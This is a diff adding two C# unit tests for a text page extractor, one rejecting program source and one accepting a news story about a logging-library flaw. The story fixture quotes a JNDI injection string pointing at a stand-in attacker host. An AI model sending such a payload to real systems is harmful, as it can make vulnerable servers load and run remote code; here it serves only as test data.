@@ -98,6 +98,50 @@ public sealed class TextPageExtractorTests
         Assert.That(ex!.Message, Is.EqualTo(reason));
     }
 
+    [Test]
+    public void Extract_ProgramSource_RejectsAsNotAnArticle()
+    {
+        const string source = """
+            using System.Text.Json;
+
+            // Reads the queue and prints one summary line per message.
+            var options = new JsonSerializerOptions { WriteIndented = false };
+            foreach (string line in File.ReadLines(args[0]))
+            {
+                var summary = JsonSerializer.Deserialize<Summary>(line, options);
+                Console.WriteLine($"{summary.Headline} ({summary.Agency})");
+            }
+
+            internal sealed record Summary(string Headline, string Agency);
+            """;
+
+        var ex = Assert.Throws<DocumentRejectedException>(() => new TextPageExtractor().Extract(Samples.FromText(source)));
+
+        Assert.That(ex!.Message, Does.StartWith("not an article: program source ("));
+    }
+
+    [Test]
+    public void Extract_StoryQuotingCode_IsAStory()
+    {
+        const string story = """
+            Developers rush to patch logging flaw
+
+            By Jane Doe
+
+            Thousands of companies rushed on Friday to patch a flaw in a widely used logging library, security researchers said, after attackers began scanning the internet for vulnerable servers.
+
+            The flaw lets an attacker run code by sending a single line of text, such as:
+
+            logger.info("${jndi:ldap://attacker.example/a}");
+
+            Researchers advised administrators to upgrade at once, and to block outbound connections from servers that do not need them, while vendors shipped fixes over the weekend.
+
+            "This is as bad as it gets," one researcher said, adding that the scanning had started within hours of the disclosure.
+            """;
+
+        Assert.That(new TextPageExtractor().Extract(Samples.FromText(story)).Single().Body, Is.Not.Empty);
+    }
+
     [TestCase("<html><body>x</body></html>", false)]
     [TestCase("{\"uri\":\"x\"}", false)]
     [TestCase("Plain text page\n\nBody.", true)]
